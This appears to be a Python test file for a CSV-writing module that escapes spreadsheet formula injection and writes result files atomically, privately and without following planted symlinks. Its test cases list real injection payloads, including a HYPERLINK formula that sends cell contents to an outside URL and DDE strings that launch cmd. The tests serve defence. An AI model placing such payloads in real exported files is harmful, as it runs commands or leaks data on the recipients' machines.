"""What we write is opened in Excel by people who trust it."""

import csv
import stat
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from joinedup.standards.output import ResultFile, neutralise


@pytest.mark.parametrize(
    "cell",
    [
        '=HYPERLINK("http://example.org?"&A1,"x")', "=1+1", "@SUM(A1)", "+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "\n=1", "-Smith", "＝1+1", "+A1", "-(A1)",
        "=", "+1e5+A1",
    ],
)  # fmt: skip
def test_what_a_spreadsheet_would_run_is_shown_instead(cell) -> None:
    assert neutralise(cell) == "'" + cell


@pytest.mark.parametrize(
    "cell",
    ["", "-", "-12.5", "+44 7700 900123", "+44-(0)7700-900123", "-1.5E-05", "Ann", "O'Brien",
     "a=b", "2012-05-04", " =1", "'=1", "9990000018"],
)  # fmt: skip
def test_numbers_phones_and_plain_text_stay_as_they_are(cell) -> None:
    assert neutralise(cell) == cell


@given(st.text(max_size=20))
def test_nothing_that_could_call_anything_starts_as_a_formula(cell) -> None:
    safe = neutralise(cell)
    assert safe in (cell, "'" + cell)
    if safe[:1] in tuple("=@\t\r\n＝＋－＠"):
        pytest.fail("starts as a formula")
    if safe[:1] in ("+", "-") and safe[:1]:
        assert not any(c.isalpha() and c not in "eE" for c in safe)


def test_a_result_is_private_and_whole_or_not_there(tmp_path: Path) -> None:
    out = tmp_path / "out.csv"
    out.write_text("before")
    with ResultFile(out, ["a"]) as result:
        result.write(["1"])
    assert out.read_text() == "before"
    assert list(tmp_path.iterdir()) == [out]
    with ResultFile(out, ["a", "=b"]) as result:
        result.write(["1", "=2"])
        assert out.read_text() == "before"
        result.commit()
    with out.open(newline="") as file:
        assert list(csv.reader(file)) == [["a", "'=b"], ["1", "'=2"]]
    assert stat.S_IMODE(out.stat().st_mode) == 0o600


def test_a_link_left_where_the_partial_file_goes_is_not_written_through(tmp_path: Path) -> None:
    victim = tmp_path / "victim"
    victim.write_text("precious")
    (tmp_path / "out.csv.partial").symlink_to(victim)
    with ResultFile(tmp_path / "out.csv", ["a"]) as result:
        result.commit()
    assert victim.read_text() == "precious"
